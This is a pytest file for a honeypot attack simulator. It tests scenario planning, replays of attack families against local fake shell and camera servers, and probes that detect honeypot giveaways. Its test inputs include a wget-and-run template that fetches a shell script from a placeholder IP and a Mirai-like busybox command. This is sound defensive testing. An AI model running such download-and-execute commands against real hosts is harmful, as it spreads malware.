import random
import socket

import pytest

from honeyeco.attacksim import (
    ScenarioAborted,
    expand_template,
    fingerprint_probe,
    load_scenario,
    manifest_is_sound,
    parse_target,
    plan_actors,
    run_scenario,
)
from honeyeco.attacksim.scenario import build_manifest
from honeyeco.events import EventKind, MemorySink, sessionize
from honeyeco.shell.config import default_command_table


def test_expand_template_slots():
    rng = random.Random(1)
    env = {}
    out = expand_template("wget http://[[ip]]/[[f=hex:6]].sh; sh [[f]]; sleep [[int:2:2]]", rng, env)
    url, run, sleep = out.split("; ")
    assert url.startswith("wget http://203.0.113.")
    assert run == f"sh {env['f']}" and len(env["f"]) == 6
    assert sleep == "sleep 2"
    with pytest.raises(ValueError):
        expand_template("[[bogus]]", rng, {})


def test_plans_are_deterministic_per_seed():
    sc = load_scenario("default")
    a, b = plan_actors(sc, 5), plan_actors(sc, 5)
    assert a == b
    assert [p.commands for p in plan_actors(sc, 6)] != [p.commands for p in a]
    assert len({p.ip for p in a}) == len(a)


def test_manifest_soundness():
    sc = load_scenario("intel_then_install")
    plans = plan_actors(sc, 3)
    manifest = build_manifest(sc, plans, 3)
    assert manifest["expected_patterns"]
    assert manifest_is_sound(manifest, sc.min_actors, sc.min_clusters)
    assert manifest["expected_goal_sequences"]["intel-then-install"] == [
        "Fingerprinting", "System Intelligence", "Malicious Installation"]


def test_manifest_soundness_fails_when_support_too_small():
    sc = load_scenario("intel_then_install")
    manifest = build_manifest(sc, plan_actors(sc, 3), 3)
    manifest["actor_commands"] = dict(list(manifest["actor_commands"].items())[:2])
    assert not manifest_is_sound(manifest, sc.min_actors, sc.min_clusters)


def test_parse_target():
    assert parse_target("127.0.0.1:2323") == ("127.0.0.1", 2323)
    with pytest.raises(ValueError):
        parse_target("localhost")


def _per_actor(events):
    """Actor -> ordered (kind, payload) stream, without times or session ids."""
    out = {}
    for s in sessionize(events):
        out.setdefault(s.actor, []).append([(e.kind, e.payload) for e in s.events])
    return {k: sorted(v, key=repr) for k, v in out.items()}


def test_three_families_runs_and_reproduces(start_shell):
    sc = load_scenario("three_families")
    logs = []
    for _ in range(2):
        sink = MemorySink()
        server = start_shell(sink)
        manifest = run_scenario(sc, 7, shell=("127.0.0.1", server.port))
        server.shutdown()
        server.server_close()
        logs.append(sink.events)
    assert len(manifest["actors"]) == 30
    assert all(v["logged_in"] for v in manifest["transcript_summary"].values())
    first, second = _per_actor(logs[0]), _per_actor(logs[1])
    assert set(first) == set(manifest["actors"])
    assert first == second


def test_mirai_family_is_logged(start_shell):
    sc = load_scenario(data={"name": "m", "families": [{"family": "mirai-like", "count": 2}]})
    sink = MemorySink()
    server = start_shell(sink)
    run_scenario(sc, 1, shell=("127.0.0.1", server.port))
    cmds = [e.payload["input"] for e in sink.events if e.kind is EventKind.COMMAND]
    assert cmds.count("/bin/busybox cp; /gisdfoewrsfdf &") == 2


def test_camera_family_is_logged(camera_server, memory_sink):
    sc = load_scenario(data={"name": "c", "families": [{"family": "camera-exploiter", "count": 2}]})
    manifest = run_scenario(sc, 1, camera=("127.0.0.1", camera_server.port))
    labels = [e.payload.get("attack_type") for e in memory_sink.events if e.kind is EventKind.HTTP_REQUEST]
    assert labels.count("CVE-2018-9995 bypass") == 2
    assert {e.src_ip for e in memory_sink.events} == set(manifest["actors"])


def _closed_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_unreachable_target_aborts():
    sc = load_scenario("three_families")
    with pytest.raises(ScenarioAborted) as info:
        run_scenario(sc, 1, shell=("127.0.0.1", _closed_port()), timeout=2)
    assert len(info.value.transcripts) == 30


# -- vetting --

def test_vetting_shipped_config_passes(shell_server):
    report = fingerprint_probe("127.0.0.1", shell_server.port, ("admin", "1234"))
    assert report.complete, report.error
    assert report.passed, report.to_json()
    assert {c.name for c in report.checks} == {
        "banner", "file_command", "uname_consistency", "unknown_command_error", "timing"}


def test_vetting_flags_missing_file_command(start_shell):
    table = [c for c in default_command_table() if not c.pattern.startswith("file")]
    server = start_shell(MemorySink(), command_table=table)
    report = fingerprint_probe("127.0.0.1", server.port, ("admin", "1234"))
    assert report.complete
    assert not report.check("file_command").passed
    assert not report.passed


def test_vetting_flags_honeypot_banner(start_shell):
    server = start_shell(MemorySink(), banner="Welcome to cowrie")
    report = fingerprint_probe("127.0.0.1", server.port, ("admin", "1234"))
    assert not report.check("banner").passed


def test_vetting_closed_port_is_incomplete():
    report = fingerprint_probe("127.0.0.1", _closed_port(), ("admin", "1234"), timeout=1)
    assert not report.complete and report.error
    assert not report.passed


def test_vetting_refused_login_is_incomplete(shell_server):
    report = fingerprint_probe("127.0.0.1", shell_server.port, ("nobody", "wrong"))
    assert not report.complete and "login" in report.error
